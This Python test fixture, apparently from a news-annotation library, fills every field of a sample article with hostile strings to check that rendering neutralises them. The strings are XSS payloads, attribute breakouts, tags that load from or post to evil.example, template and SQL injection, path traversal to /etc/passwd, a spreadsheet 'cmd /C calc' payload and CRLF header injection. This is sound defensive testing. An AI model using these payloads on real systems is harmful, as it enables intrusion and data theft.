"""Texts that would do something if they were taken for more than text. The mark ``hacked`` shows whether one did."""

from onrecord.article import Article
from onrecord.statement import Actor, Confidence, Dispute, Reading, Speaker, Statement

RUN = "window.hacked=1"
HOSTILE = (
    # Markup and scripts
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    "<object data=data:text/html,x></object>",
    "<embed src=https://evil.example/x>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<textarea>",
    "</textarea></title></style></noscript>",
    "<!-- ",
    "--><b>",
    "<![CDATA[<b>]]>",
    "<plaintext>",
    "<template><b>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    # Ways out of attributes
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"` onclick={RUN}",
    '" autofocus tabindex=1 onfocus="window.hacked=1',
    '" hx-get="https://evil.example/" hx-trigger="load',
    '<div hx-get="/corrections" hx-trigger="load" hx-target="body">',
    '" data-copy="content',
    # Addresses
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}//",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    'https://evil.example/" onclick="window.hacked=1',
    "//evil.example/x",
    "../../../../etc/passwd",
    "\\\\evil.example\\share",
    "http://[",
    "#statement-x",
    # Template syntax, queries, formats
    "{{ 7 * 7 }}{{ form_word }}",
    "{% include 'base.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %n %(x)s {0} {form_word}",
    "'; DROP TABLE statements; --",
    '" OR 1=1 -- NEAR(a b) * ^ : ( AND',
    '=HYPERLINK("https://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # Characters that act
    "\u202eedirrevo\u202c",
    "\u2066isolated\u2069 \u200f\u200e",
    "\x1b[31mred\x1b[0m\x07\x08",
    "nul\x00inside",
    "lone \ud800 surrogate \udfff",
    "line\u2028separator\u2029paragraph",
    "\ufeff\ufffe\uffff byte order",
    "e" + "\u0301" * 500,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 20,
    "\u0b95\u0bcd" * 40 + "ﷺ" * 20,
    "&lt;script&gt; &#60;script&#62; &amp;lt; &#x202e;",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "\r\nSet-Cookie: x=y\r\n\r\n<b>",
    "   \t\n  ",
    "-",
    "W" * 20_000,
)
WORD = "M" * 1_000_000


def hostile_reading(number: int, words: str) -> Reading:
    """An article that is ``words`` wherever an article can say something."""
    text = f"{words} said “{words}” and denied {words}.\n\n{words}"
    end, second = len(words), len(words) + 6
    content = (second, second + len(words) + 2)
    name = f"{number} {words}"
    speaker = Speaker(words, "person", ((0, end),)) if words else None
    first = Statement(
        f"h{number} {words[:50]}", ((0, end),), ((end + 1, end + 5),), (content,), "direct", speaker, Confidence(0.5, 0.5, 0.5), (words,), None,
        "demand", words, words, words, "2031-01-01",
    )  # fmt: skip
    denied = (content[1] + 5, content[1] + 11)
    second_content = (denied[1] + 1, denied[1] + 1 + len(words))
    other = Statement(f"i{number} {words[:50]}", ((0, end),), (denied,), (second_content,), "indirect", speaker, Confidence(0.5), act="deny", target=words)
    disputes = (Dispute(other.id, first.id, words, "denies"), Dispute(first.id, None, words, "contradicts"))
    article = Article(name, text, "2031-01-02", words, words, words)
    return Reading(article, (first, other), (), (Actor(words, "person", (words,)),), disputes)
